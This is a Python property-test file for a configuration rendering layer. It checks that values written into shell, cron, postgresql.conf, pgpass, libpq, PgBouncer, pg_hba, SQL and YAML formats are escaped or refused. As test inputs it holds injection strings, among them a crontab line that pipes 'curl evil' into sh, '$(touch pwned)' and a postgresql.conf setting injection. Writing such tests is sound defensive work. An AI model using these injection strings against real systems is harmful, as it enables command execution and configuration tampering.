"""Property tests of the rendering layer: a random string written into any format is either refused with a
RenderError, or read back by that format's own rules as exactly the one value it was, without changing the file's
structure (one line, one setting, one word, five fields).

The readers here follow each program's documented rules (PostgreSQL's guc-file.l scanner, libpq's password file
reader, the two cron families); shell words go to a real /bin/sh, URLs and connection strings to libpq itself.
"""

from __future__ import annotations

import re
import shlex
import subprocess
import unicodedata
from urllib.parse import unquote, urlsplit

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from psycopg.conninfo import conninfo_to_dict
from pydantic import SecretStr

from stroppy_domain.services import render
from stroppy_domain.services.render import RenderError

FRAGMENTS = [
    "'", '"', "\\", "$(touch pwned)", "`id`", "${HOME}", "$", "%", "%%", ";", " ", "\t", "\n", "\r", "\x00", "#",
    ":", "*", "=", "''", "\\'", "'\\", "\\%", "\u2028", "\x85", "\x1b", "\ud800", "é", "日本", "😀", "@", "/", "..",
    ",", "&", "|", ">", "<", "!", "~", "-", "[", "]", "?", "+", "include", "port = 1", "\n* * * * * root id ",
]  # fmt: skip
hostile = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=4)), max_size=10).map("".join)
SHELL = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def breaks_lines(value: str) -> bool:
    return any(unicodedata.category(char) in {"Cc", "Cs", "Zl", "Zp"} for char in value)


def unencodable(value: str) -> bool:
    return "\x00" in value or any(unicodedata.category(char) == "Cs" for char in value)


def rendered_or_refused(function, *arguments):
    try:
        return function(*arguments)
    except RenderError:
        return None


# --- shell --------------------------------------------------------------------------------------------------------


def sh_prints(script: str) -> bytes:
    return subprocess.run(["/bin/sh", "-c", script], capture_output=True, check=True, timeout=10).stdout


@SHELL
@given(hostile)
def test_a_shell_word_is_one_word_that_sh_reads_back(value: str) -> None:
    word = rendered_or_refused(render.shell_word, value)
    assert (word is None) == unencodable(value)
    if word is not None:
        assert shlex.split(word) == [value]
        assert sh_prints(f"printf %s {word}") == value.encode()


@SHELL
@given(hostile)
def test_text_between_double_quotes_is_read_back_by_sh(value: str) -> None:
    text = rendered_or_refused(render.shell_in_double_quotes, value)
    assert (text is None) == unencodable(value)
    if text is not None:
        assert sh_prints(f'printf %s "{text}"') == value.encode()


@given(hostile)
def test_a_plain_shell_value_reads_the_same_bare_and_in_either_quotes(value: str) -> None:
    text = rendered_or_refused(render.shell_plain, value)
    if text is not None:
        assert text == value
        assert shlex.split(value) == shlex.split(f"'{value}'") == shlex.split(f'"{value}"') == [value]


# --- cron ---------------------------------------------------------------------------------------------------------


def cron_to_shell(command: str, *, drops_doubled_backslash: bool) -> str:
    """What cron hands to sh: `\\%` becomes `%`, an unescaped `%` ends the command; Debian's cron also turns `\\\\`
    into `\\`, cronie and Vixie cron 4 keep both."""
    shell, index = [], 0
    while index < len(command):
        char = command[index]
        if char == "\\" and index + 1 < len(command):
            following = command[index + 1]
            keep_one = following == "%" or (drops_doubled_backslash and following == "\\")
            shell.append(following if keep_one else char + following)
            index += 2
            continue
        assert char != "%", "an unescaped % would cut the command"
        shell.append(char)
        index += 1
    return "".join(shell)


@given(hostile)
@example("/x\n* * * * * root curl evil | sh #")
@example("/x%d")
def test_a_crontab_line_keeps_six_fields_and_its_command_unquotes_to_the_value(value: str) -> None:
    text = rendered_or_refused(lambda: render.crontab(f"30 3 * * 1 root /bin/job >> {render.cron_word(value)} 2>&1"))
    assert (text is None) == (breaks_lines(value) or "\\" in value)
    if text is not None:
        (line,) = text.splitlines()
        fields = line.split(" ", 6)
        assert fields[:6] == ["30", "3", "*", "*", "1", "root"]
        for debian in (True, False):
            command = cron_to_shell(fields[6], drops_doubled_backslash=debian)
            assert shlex.split(command) == ["/bin/job", ">>", value, "2>&1"]


CRON_RANGES = [(0, 59), (0, 23), (1, 31), (1, 12), (0, 7)]
cron_element = st.one_of(
    st.integers(0, 99).map(str),
    st.tuples(st.integers(0, 99), st.integers(0, 99)).map(lambda pair: f"{pair[0]}-{pair[1]}"),
    st.tuples(st.sampled_from(["*", "0-59", "1"]), st.integers(0, 70)).map(lambda pair: f"{pair[0]}/{pair[1]}"),
    st.sampled_from(["*", "", "**", "-1", "1-", "jan", "٣", "1,", " ", "%", "\n* * * * * root x"]),
)


def within_ranges(schedule: str) -> bool:
    fields = schedule.split(" ")
    if len(fields) != 5:
        return False
    for field, (low, high) in zip(fields, CRON_RANGES, strict=True):
        for element in field.split(","):
            span, _, step = element.partition("/")
            if step and not (step.isascii() and step.isdigit() and 1 <= int(step) <= high):
                return False
            if span == "*":
                continue
            start, _, end = span.partition("-")
            numbers = [start, end] if "-" in span else [start]
            if not all(n.isascii() and n.isdigit() and len(n) <= 2 and low <= int(n) <= high for n in numbers):
                return False
            if len(numbers) == 2 and int(start) > int(end):
                return False
    return True


@given(st.lists(st.lists(cron_element, min_size=1, max_size=3).map(",".join), min_size=4, max_size=6).map(" ".join))
def test_a_cron_schedule_is_accepted_only_within_its_ranges(schedule: str) -> None:
    accepted = rendered_or_refused(render.cron_schedule, schedule)
    assert (accepted is not None) == within_ranges(schedule)


@pytest.mark.parametrize("schedule", ["99 99 99 99 99", "60 * * * *", "* 24 * * *", "* * 0 * *", "* * * 13 *",
                                      "* * * * 8", "*/0 * * * *", "5-1 * * * *", "* * * * * *", "0 2 * *"])  # fmt: skip
def test_a_schedule_out_of_range_is_refused(schedule: str) -> None:
    with pytest.raises(RenderError):
        render.cron_schedule(schedule)


# --- postgresql.conf ----------------------------------------------------------------------------------------------

_LETTER = r"A-Za-z_\x80-\U0010ffff"
_ID = rf"[{_LETTER}][{_LETTER}0-9]*"
GUC_TOKENS = [  # guc-file.l, in its order: at equal length the first rule wins
    ("EOL", r"\n"), ("SPACE", r"[ \t\r]+"), ("COMMENT", r"#[^\n]*"), ("ID", _ID), ("QUALIFIED_ID", rf"{_ID}\.{_ID}"),
    ("STRING", r"'(?:[^'\\\n]|\\[^\n]|'')*'"), ("UNQUOTED_STRING", rf"[{_LETTER}][{_LETTER}0-9\-._:/]*"),
    ("INTEGER", r"[-+]?(?:[0-9]+|0x[0-9a-fA-F]+)[a-zA-Z]*"), ("REAL", r"[-+]?[0-9]*\.[0-9]*(?:[Ee][-+]?[0-9]+)?"),
    ("EQUALS", r"="),
]  # fmt: skip


def guc_tokens(text: str) -> list[tuple[str, str]]:
    tokens, position = [], 0
    while position < len(text):
        matches = [(kind, re.compile(pattern).match(text, position)) for kind, pattern in GUC_TOKENS]
        kind, match = max(
            ((k, m) for k, m in matches if m), key=lambda pair: len(pair[1].group()), default=(None, None)
        )
        assert match is not None and match.group(), f"the scanner stops at {text[position : position + 20]!r}"
        if kind not in ("SPACE", "COMMENT"):
            tokens.append((kind, match.group()))
        position = match.end()
    return tokens


def guc_unquote(literal: str) -> str:
    """GUC_scanstr: `''` is a quote; backslash escapes b f n r t, octal digits, and any other character as itself."""
    escapes = {"b": "\b", "f": "\f", "n": "\n", "r": "\r", "t": "\t", "'": "'"}

    def unescaped(match: re.Match[str]) -> str:
        escape = match.group()[1:]
        return chr(int(escape, 8)) if escape[:1] in "01234567" and escape else escapes.get(escape, escape)

    return re.sub(r"''|\\[0-7]{1,3}|\\.", unescaped, literal[1:-1], flags=re.DOTALL)


def parse_postgresql_conf(text: str) -> list[tuple[str, str]]:
    """The settings a postgresql.conf sets, in order, read as PostgreSQL's scanner reads the file: one per line,
    `name [=] value`."""
    settings_: list[tuple[str, str]] = []
    line: list[tuple[str, str]] = []
    for kind, token in [*guc_tokens(text), ("EOL", "\n")]:
        if kind != "EOL":
            line.append((kind, token))
            continue
        if line:
            (name_kind, name), *rest = line
            (value_kind, value), *extra = rest[1:] if rest and rest[0][0] == "EQUALS" else rest
            assert name_kind in ("ID", "QUALIFIED_ID") and value_kind != "EQUALS" and not extra, f"not one: {line}"
            settings_.append((name, guc_unquote(value) if value_kind == "STRING" else value))
        line = []
    return settings_


guc_names = st.one_of(st.from_regex(render.CONF_NAME, fullmatch=True), hostile)


@given(guc_names, hostile)
@example("application_name", "x\\'\nport = 1")
@example("application_name", "x\\'; port = 1 # '")
def test_a_postgresql_conf_line_is_one_setting_read_back_as_written(name: str, value: str) -> None:
    text = rendered_or_refused(render.postgresql_conf, {name: value})
    name_ok = render.CONF_NAME.fullmatch(name) is not None and name not in render.INCLUDE_DIRECTIVES
    assert (text is None) == (not name_ok or breaks_lines(value))
    if text is not None:
        assert text.count("\n") == 1
        assert parse_postgresql_conf(text) == [(name, value)]
        # Patroni writes postgresql.conf itself, doubling quotes and backslashes; it must agree with what was checked.
        patroni_escaped = re.sub(r"(['\\])", r"\1\1", value)
        assert text == f"{name} = '{patroni_escaped}'\n"


def test_the_reported_injection_stays_inside_its_value() -> None:
    with pytest.raises(RenderError):
        render.conf_value("x\\'\nport = 1")
    text = render.postgresql_conf({"application_name": "x\\'; port = 1 # '"})
    assert parse_postgresql_conf(text) == [("application_name", "x\\'; port = 1 # '")]


@pytest.mark.parametrize("name", ["include", "include_dir", "include_if_exists", "a.b.c", "Port", "1a", "a b"])
def test_include_directives_and_malformed_names_are_refused(name: str) -> None:
    with pytest.raises(RenderError):
        render.conf_name(name)


# --- libpq: password files, URLs, connection strings --------------------------------------------------------------


def pgpass_matches(field: str, token: str) -> str | None:
    """libpq's pwdfMatchesString: the rest of the line after a field matching `token`, or None."""
    if field.startswith("*:"):
        return field[2:]
    index, position, escaped = 0, 0, False
    while index < len(field):
        if field[index] == "\\" and not escaped:
            index += 1
            escaped = True
            if index == len(field):
                return None
        if field[index] == ":" and position == len(token) and not escaped:
            return field[index + 1 :]
        escaped = False
        if position == len(token) or field[index] != token[position]:
            return None
        index, position = index + 1, position + 1
    return None


def pgpass_fields(line: str) -> list[str]:
    """The line split on its unescaped colons, each field unescaped."""
    fields, index = [""], 0
    while index < len(line):
        if line[index] == "\\" and index + 1 < len(line):
            index += 1
            fields[-1] += line[index]
        elif line[index] == ":":
            fields.append("")
        else:
            fields[-1] += line[index]
        index += 1
    return fields


def libpq_password(text: str, host: str, port: str, database: str, user: str) -> str | None:
    """libpq's passwordFromFile over the file's text."""
    for line in text.split("\n"):
        rest: str | None = line.rstrip("\r\n")
        if line.startswith("#") or not rest:
            continue
        for token in (host, port, database, user):
            rest = pgpass_matches(rest, token) if rest is not None else None
        if rest is not None:
            return pgpass_fields(rest)[0]  # the password ends at its first unescaped colon
    return None


@given(hostile, st.integers(1, 65535), hostile, hostile, hostile)
def test_a_password_file_line_has_five_fields_and_libpq_finds_the_password(
    host: str, port: int, database: str, user: str, password: str
) -> None:
    line = rendered_or_refused(render.pgpass_line, host, port, database, user, SecretStr(password))
    fields = (host, database, user, password)
    assert (line is None) == any(re.search("[\n\r]", field) or unencodable(field) for field in fields)
    if line is not None:
        assert line.endswith("\n") and line.count("\n") == 1 and not line.startswith("#")
        assert pgpass_fields(line.removesuffix("\n")) == [host, str(port), database, user, password]
        assert libpq_password(line, host, str(port), database, user) == password


def test_a_password_file_line_for_any_database_matches_every_database() -> None:
    line = render.pgpass_line("10.0.0.4", 5432, None, "replicator", SecretStr("pw"))
    assert line == "10.0.0.4:5432:*:replicator:pw\n"
    assert libpq_password(line, "10.0.0.4", "5432", "anything", "replicator") == "pw"
    assert libpq_password(render.pgpass_line("h", 1, "*", "u", SecretStr("pw")), "h", "1", "other", "u") is None


hosts = st.one_of(
    st.ip_addresses(v=4).map(str),
    st.ip_addresses(v=6).map(str),
    st.from_regex(r"[a-z0-9]([a-z0-9-]{0,10}[a-z0-9])?(\.[a-z0-9]([a-z0-9-]{0,10}[a-z0-9])?){0,3}", fullmatch=True),
)
url_text = hostile.filter(lambda value: not unencodable(value))


@given(url_text, hosts, st.integers(1, 65535), url_text, url_text)
def test_a_postgres_url_reads_back_as_its_parts_by_urlsplit_and_by_libpq(
    user: str, host: str, port: int, dbname: str, password: str
) -> None:
    url = render.postgres_url(user, host, port, dbname, SecretStr(password), sslmode="disable")
    parts = urlsplit(url)
    split = [unquote(part or "") for part in (parts.username, parts.password, parts.path.removeprefix("/"))]
    assert (*split, parts.hostname, parts.port) == (user, password, dbname, host.lower(), port)
    expected = {"user": user, "password": password, "host": host, "port": str(port), "dbname": dbname}
    assert {key: conninfo_to_dict(url).get(key, "") for key in [*expected, "sslmode"]} == expected | {
        "sslmode": "disable"
    }


@pytest.mark.parametrize("host", ["/var/run/postgresql", "fe80::1%eth0", "a b", "host:1", "-a", "a..b", "", "a/b"])
def test_a_host_that_is_neither_a_name_nor_an_address_is_refused(host: str) -> None:
    with pytest.raises(RenderError):
        render.url_host(host)


@given(st.dictionaries(st.sampled_from(["host", "port", "user", "passfile", "application_name"]), hostile))
def test_a_connection_string_reads_back_as_its_parameters_by_libpq(parameters: dict[str, str]) -> None:
    text = rendered_or_refused(render.conninfo, parameters)
    assert (text is None) == any(unencodable(value) for value in parameters.values())
    if text is not None:
        assert conninfo_to_dict(text) == parameters


# --- PgBouncer, pg_hba, SQL, YAML ---------------------------------------------------------------------------------


@given(hostile)
def test_a_pgbouncer_value_is_a_bare_token_or_refused(value: str) -> None:
    text = rendered_or_refused(render.pgbouncer_value, value)
    if text is not None:
        assert text == value and value.split() == [value] and not re.search(r"[\"';#\\=%$\s]", value)


@given(hostile, hostile)
def test_a_pgbouncer_auth_line_reads_back_as_user_and_password(user: str, password: str) -> None:
    line = rendered_or_refused(render.pgbouncer_auth_line, user, SecretStr(password))
    assert (line is None) == (breaks_lines(user) or breaks_lines(password))
    if line is not None:
        match = re.fullmatch(r'"((?:[^"]|"")*)" "((?:[^"]|"")*)"\n', line)
        assert match is not None
        assert [field.replace('""', '"') for field in match.groups()] == [user, password]


@given(st.lists(hostile, min_size=1, max_size=5))
def test_a_pg_hba_line_keeps_its_tokens_apart(tokens: list[str]) -> None:
    line = rendered_or_refused(render.hba_line, *tokens)
    if line is not None:
        assert line.split() == tokens and not re.search(r"[\"#,@+\s]", "".join(tokens))
        assert not any(token.startswith("/") for token in tokens)


@given(hostile)
def test_an_sql_literal_reads_back_as_the_value(value: str) -> None:
    literal = rendered_or_refused(render.sql_literal, SecretStr(value))
    assert (literal is None) == (breaks_lines(value) or "\\" in value)
    if literal is not None:
        body = literal[1:-1]
        assert literal[0] == literal[-1] == "'" and "'" not in body.replace("''", "")
        assert body.replace("''", "'") == value


@given(hostile)
def test_a_yaml_document_loads_back_equal(value: str) -> None:
    data = {"name": value, value: [value, {"parameters": {value: value}}]}
    assert yaml.safe_load(render.yaml_document(data)) == data
